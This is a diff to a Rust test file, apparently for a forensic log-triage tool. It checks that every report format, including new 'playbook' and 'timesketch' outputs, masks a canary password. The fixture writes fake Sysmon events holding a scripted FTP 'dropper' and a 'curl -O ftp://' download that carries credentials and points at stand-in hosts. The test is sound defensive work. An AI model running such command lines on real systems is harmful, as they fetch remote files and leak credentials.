@@ -27,6 +27,24 @@ fn host() -> tempfile::TempDir {
         "g.bat",
         format!("@echo off\r\nftp -n h.example\r\ncurl -O ftp://bob:{}@192.0.2.5/x\r\n", CANARY.replace('!', "%%21")),
     );
+    let started = |number: u32, image: &str, line: String| {
+        let data = serde_json::json!({
+            "UtcTime": "2024-05-12 10:00:00.000", "ProcessGuid": format!("{{365ABB72-55F1-5CD8-0000-{number:012X}}}"),
+            "ProcessId": number, "Image": format!("C:\\Windows\\System32\\{image}"), "CommandLine": line,
+            "CurrentDirectory": "C:\\t\\", "User": "PC1\\kim", "ParentProcessGuid": "{365ABB72-55F1-5CD8-0000-000000000001}",
+            "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": format!("cmd /c ftp://bob:{CANARY}@192.0.2.6/"),
+        });
+        let system = serde_json::json!({
+            "Provider": { "#attributes": { "Name": "Microsoft-Windows-Sysmon" } }, "EventID": 1, "EventRecordID": number,
+            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC1",
+            "TimeCreated": { "#attributes": { "SystemTime": "2024-05-12T10:00:00.000Z" } },
+        });
+        format!("{}\n", serde_json::json!({ "Event": { "System": system, "EventData": data } }))
+    };
+    let dropper = format!("cmd /c echo open 192.0.2.7>h.txt&echo user bob {CANARY}>>h.txt&ftp -n -s:h.txt");
+    let log =
+        [started(2, "cmd.exe", dropper), started(3, "curl.exe", format!("curl -O ftp://bob:{CANARY}@192.0.2.8/x"))];
+    put("sysmon.jsonl", log.concat());
     folder
 }
 
@@ -50,12 +68,14 @@ fn a_report_that_travels_does_not() {
     let key = tempfile::NamedTempFile::new().unwrap();
     fs::write(key.path(), "the key").unwrap();
     let key = key.path().to_str().unwrap();
-    for format in ["text", "json", "jsonl"] {
+    for format in ["text", "json", "jsonl", "playbook", "timesketch"] {
         for mode in [&["--secrets", "mask"][..], &["--secrets", "fingerprint", "--fingerprint-key", key]] {
             let (report, _) = shown(mode, format);
             let line = report.lines().find(|line| line.contains(CANARY));
             assert_eq!(line, None, "{format} {mode:?}");
-            assert!(report.contains("192.0.2.5") && !report.contains("%21"), "{format} {mode:?}");
+            assert!(!report.contains("%21"), "{format} {mode:?}");
+            let tells = if format == "timesketch" { "192.0.2.8" } else { "192.0.2.5" };
+            assert!(report.contains(tells), "{format} {mode:?}");
         }
     }
     let (report, _) = shown(&["--secrets", "fingerprint", "--fingerprint-key", key], "json");
